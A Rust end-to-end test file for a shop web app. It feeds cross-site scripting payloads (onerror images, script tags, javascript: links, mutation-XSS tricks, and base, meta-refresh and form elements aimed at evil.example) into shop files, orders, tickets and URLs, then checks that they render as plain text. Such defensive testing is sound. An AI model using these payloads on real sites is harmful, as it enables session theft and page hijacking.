//! Words that would be markup: of a shop, of its orders, of a shopper, of a colleague
//! and of an address. Wherever they are shown they are words.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::{fs, path::Path};

use base64::{Engine as _, engine::general_purpose::STANDARD};
use hemline_e2e::{Need, Story, has, needs, story, story_of_shops};
use serde_json::{Value, json};

use crate::{desk::sign_in, order::look_up};

const SHOP: &str = "kaolate";

/// Ends an attribute, and would run wherever it is taken for markup.
const EVIL: &str = "\"><img src=x onerror=hemlineOwned=true>";

/// What an article could hold besides.
const MARKUP: &str = r#"
<script>hemlineOwned = true</script>
<img src=x onerror="hemlineOwned = true"><svg onload="hemlineOwned = true"></svg>
<a href="javascript:hemlineOwned=true" id="trap">Press me</a>
<a href="data:text/html,<script>top.hemlineOwned=true</script>">Or me</a>
<iframe srcdoc="<script>parent.hemlineOwned = true</script>"></iframe>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style><form action="https://evil.example"><input name="key"></form>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hemlineOwned=true&gt;">
<noscript><p title="</noscript><img src=x onerror=hemlineOwned=true>">
"#;

/// Puts it into every file of a shop, behind words that shoppers see.
fn spoil(merchants: &Path) {
    let quoted = EVIL.replace('"', "\\\"");
    for (file, words) in [
        (
            "merchant.toml",
            &[
                "Kaolate",
                "Custom and printed pieces",
                "Print is off-centre",
                "Returns & exchanges",
                "With our answer come instructions",
            ][..],
        ),
        (
            "policy.toml",
            &[
                "What comes back",
                "A misprint is one of them.",
                "Another size or colour is not on the list",
            ],
        ),
        (
            "sizes.toml",
            &["T-shirts", "Chest, laid flat", "Cotton jersey"],
        ),
        (
            "contact.toml",
            &[
                "A piece is faulty or misprinted",
                "Within 30 days of delivery",
            ],
        ),
        (
            "demo.toml",
            &["Plain crew tee", "Robin Ames", "USPS", "M, stone"],
        ),
        (
            "faq/postage.md",
            &[
                "Who pays the return postage",
                "We do if the piece is faulty",
            ],
        ),
    ] {
        let file = merchants.join(SHOP).join(file);
        let mut text = fs::read_to_string(&file).unwrap();
        for word in words {
            assert!(text.contains(word), "{word}");
            text = text.replace(word, &format!("{word}{quoted}"));
        }
        if file.ends_with("postage.md") {
            text += MARKUP;
        }
        fs::write(file, text).unwrap();
    }
}

/// Nothing ran, and nothing of it has become an element.
async fn is_harmless(s: &Story) {
    let made = "[globalThis.hemlineOwned ?? 0, document.querySelectorAll('[src=\"x\"], [onerror], \
        [onload], base, iframe, [href^=\"javascript:\"], [href^=\"data:text/html\"]').length]";
    let at = s.page.address().await;
    assert_eq!(s.page.evaluate(made).await, json!([0, 0]), "{at}");
}

/// Opens a page, sees the words on it, and that they are no more.
async fn shows(s: &Story, path: &str, words: &str) {
    s.open(path).await;
    s.page.says(&format!("{words}{EVIL}")).await;
    is_harmless(s).await;
}

/// Sends as JSON, or as it is where it is labelled; the answer, whatever it is.
fn send(s: &Story, method: &str, path: &str, bearer: &str, kind: &str, body: &[u8]) -> Value {
    let bearer = format!("Bearer {bearer}");
    let once = format!("{path}{}", body.len());
    let mut head = vec![("content-type", kind), ("idempotency-key", &*once)];
    if bearer != "Bearer " {
        head.push(("authorization", &bearer));
    }
    let path = format!("/v1/merchants/{SHOP}{path}");
    let answer = s.server.ask(method, &path, &head, body);
    assert!(
        answer.status < 300 || answer.status == 409,
        "{path}: {}",
        answer.body
    );
    serde_json::from_str(&answer.body).unwrap_or_default()
}

fn post(s: &Story, path: &str, bearer: &str, body: &Value) -> Value {
    send(
        s,
        "POST",
        path,
        bearer,
        "application/json",
        body.to_string().as_bytes(),
    )
}

/// A shopper asks to send a piece back, asks for a change and writes to the team.
/// Returns the references of the return and of the letter.
fn ask(s: &Story) -> [String; 2] {
    let order = json!({ "number": "KO-20413", "postcode": "80205" });
    let token = post(s, "/order/lookup", "", &order)["token"].clone();
    let token = token.as_str().unwrap();
    let picture = STANDARD
        .decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
        .unwrap();
    let photo = send(s, "POST", "/order/photos", token, "image/png", &picture)["id"].clone();
    let pieces = send(s, "GET", "/order/returns", token, "text/plain", b"");
    let tee = pieces["pieces"].as_array().unwrap().iter();
    let tee = tee
        .clone()
        .find(|piece| piece["name"].as_str().unwrap().starts_with("Plain"));
    let mut item = json!({
        "line": tee.unwrap()["line"], "quantity": 1, "wish": "refund", "shown": "accepted",
        "description": EVIL,
        "photos": [{ "photo": photo, "of": "photo_of_item" }, { "photo": photo, "of": "photo_of_fault" }],
        "answers": [
            { "fact": "reason", "value": "other_size" }, { "fact": "condition", "value": "new" },
            { "fact": "original_packaging", "value": "true" },
        ],
    });
    let mut back = post(
        s,
        "/order/returns",
        token,
        &json!({ "items": [item], "note": EVIL }),
    );
    if back["reference"].is_null() {
        item["shown"] = back["items"][0]["decided"]["wish"]["outcome"].clone();
        let again =
            json!({ "items": [item], "note": EVIL, "shown_refund": back["estimate"]["total"] });
        back = post(s, "/order/returns", token, &again);
    }
    let amend = json!({ "kind": "amend", "phone": "555 0100", "note": EVIL });
    post(s, "/order/requests", token, &amend);
    let letter = json!({
        "topic": "something-else", "email": "robin.ames@example.com",
        "subject": format!("Subject{EVIL}"), "message": format!("Message{EVIL}"), "order": EVIL,
    });
    let letter = post(s, "/tickets", "", &letter);
    for _ in 0..3 {
        post(s, "/searches", "", &json!({ "words": EVIL }));
    }
    [back, letter].map(|kept| {
        kept["reference"]
            .as_str()
            .unwrap_or_else(|| panic!("{kept:#}"))
            .to_owned()
    })
}

#[test]
fn a_shop_that_writes_markup_shows_words() {
    story_of_shops(spoil, async |s| {
        s.server.fill(SHOP);
        for (path, words) in [
            ("/", "Kaolate"),
            ("/kaolate", "Print is off-centre"),
            ("/kaolate/faq", "Returns & exchanges"),
            ("/kaolate/faq/postage", "We do if the piece is faulty"),
            ("/kaolate/policy", "What comes back"),
            ("/kaolate/sizes", "T-shirts"),
            ("/kaolate/sizes/t-shirts", "T-shirts"),
            ("/kaolate/contact", "A piece is faulty or misprinted"),
            ("/kaolate/check?wish=return&reason=other_size", "Kaolate"),
        ] {
            shows(&s, path, words).await;
        }
        s.page.open(&s.server.at("/demo/kaolate")).await;
        s.page.says(&format!("Plain crew tee{EVIL}")).await;
        is_harmless(&s).await;
        // What looks like a link of the article is none that runs.
        s.open("/kaolate/faq/postage").await;
        s.page.evaluate("document.querySelectorAll('main a').forEach((link) => link.hash || link.closest('.prose') && !link.getAttribute('href') && link.click())").await;
        is_harmless(&s).await;
    });
}

#[test]
fn an_address_that_is_markup_shows_words() {
    story(async |s| {
        let evil = "%22%3E%3Cimg%20src=x%20onerror=hemlineOwned=true%3E";
        for path in [
            "/kaolate/faq?q=",
            "/kaolate/check?wish=return&reason=",
            "/kaolate/check?wish=",
            "/kaolate/contact?about=",
            "/kaolate/order?number=",
            "/kaolate/return?piece=",
            "/kaolate/return/status?see=",
            "/kaolate/sizes/t-shirts?chest=",
            "/kaolate/sizes?for=",
            "/kaolate/contact/status?see=",
            "/desk?see=",
            "/kaolate#",
            "/kaolate/policy#",
            "/kaolate/",
            "/kaolate/faq/",
            "/kaolate/sizes/",
            "/",
            "/demo/kaolate/",
        ] {
            s.page.open(&s.server.at(&format!("{path}{evil}"))).await;
            if !path.starts_with("/demo/") {
                s.page.is_alive().await;
            }
            is_harmless(&s).await;
        }
        // It is said back as it was typed.
        s.open(&format!("/kaolate/faq?q={evil}")).await;
        s.page
            .holds(&format!(
                "document.querySelector('input').value === '{EVIL}'"
            ))
            .await;
        is_harmless(&s).await;
        s.page.expects_complaints(&["404"]).await;
    });
}

#[test]
fn orders_and_letters_that_are_markup_are_words_to_shopper_and_team() {
    story_of_shops(spoil, async |s| {
        s.server.fill(SHOP);
        let key = s.server.key(SHOP);
        let [back, letter] = ask(&s);
        s.open("/kaolate/order").await;
        look_up(&s, "KO-20413", "robin.ames@example.com").await;
        s.page.says(&format!("Plain crew tee{EVIL}")).await;
        s.page.says(&format!("USPS{EVIL}")).await;
        is_harmless(&s).await;
        shows(&s, "/kaolate/return", "Plain crew tee").await;
        shows(
            &s,
            &format!("/kaolate/return/status?see={back}"),
            "Plain crew tee",
        )
        .await;

        s.open("/desk").await;
        sign_in(&s, &key).await;
        s.page.says(&format!("Subject{EVIL}")).await;
        is_harmless(&s).await;
        s.page.click("link", has(&back)).await;
        s.page.says(&format!("“{EVIL}”")).await;
        is_harmless(&s).await;
        // A file that a colleague was sent, called so.
        let folder = tempfile::tempdir().unwrap();
        let label = folder.path().join(format!("{EVIL}.pdf"));
        fs::write(&label, "%PDF-1.4\n%%EOF\n").unwrap();
        s.page
            .find("radio", has("Authorise it"))
            .await
            .choose()
            .await;
        s.page
            .find("button", has("A label to print"))
            .await
            .type_text(label.to_str().unwrap())
            .await;
        s.page.says("Chosen: ").await;
        is_harmless(&s).await;
        let field = s
            .page
            .find("textbox", "What to do, in your words (optional)")
            .await;
        field.set(&format!("Instructions{EVIL}")).await;
        s.page.click("button", "Authorise the return").await;
        s.page.says(&format!("{back} is authorised.")).await;
        is_harmless(&s).await;
        s.open("/desk").await;
        s.page.click("link", has("Subject")).await;
        s.page.says(&format!("Message{EVIL}")).await;
        is_harmless(&s).await;
        let reply = json!({ "text": format!("Reply{EVIL}"), "close": false });
        post(&s, &format!("/tickets/{letter}/replies"), &key, &reply);
        s.page.click("link", "What to write next").await;
        // Of what was searched for nothing but words is kept.
        s.page.has("heading", "What to write next").await;
        is_harmless(&s).await;

        // The desk looks for what comes next among returns first.
        s.page.expects_complaints(&["404"]).await;

        // And what the team wrote, to the shopper.
        shows(
            &s,
            &format!("/kaolate/return/status?see={back}"),
            "Instructions",
        )
        .await;
        s.open("/kaolate/contact/status").await;
        s.page
            .find("textbox", has("eference"))
            .await
            .set(&letter)
            .await;
        s.page
            .find("textbox", has("mail"))
            .await
            .set("robin.ames@example.com")
            .await;
        s.page.click("button", has("Find")).await;
        s.page.says(&format!("Reply{EVIL}")).await;
        is_harmless(&s).await;
    });
}

/// Every story ends with nothing to complain of. That would say nothing if what has
/// gone, or is in a frame, were forgotten.
#[test]
fn what_breaks_the_policy_is_told_at_the_end_wherever_it_was() {
    let inject = format!("document.body.insertAdjacentHTML('beforeend', '{EVIL}')");
    needs(&[Need::Console]).story_on_site(async move |s, host| {
        let is_told = async || {
            let complaints = s.page.complaints().await;
            complaints
                .iter()
                .any(|told| told.contains("Content Security Policy"))
        };
        s.open("/kaolate").await;
        assert!(!is_told().await);
        s.page.evaluate(&inject).await;
        s.open("/kalre").await;
        is_harmless(&s).await;
        assert!(is_told().await, "of a page that has gone");

        let tag = format!("<iframe src=\"{}\"></iframe>", s.server.at("/kaolate"));
        host.show("/", &[], &tag);
        s.page.open(&host.at("/")).await;
        let help = s.page.inside(&s.server.at("/kaolate")).await;
        help.holds("document.readyState === 'complete' && document.body.innerText.length > 99")
            .await;
        assert!(!is_told().await);
        help.evaluate(&inject).await;
        s.page.open(&host.at("/favicon.ico")).await;
        assert!(is_told().await, "of a frame that has gone");
    });
}
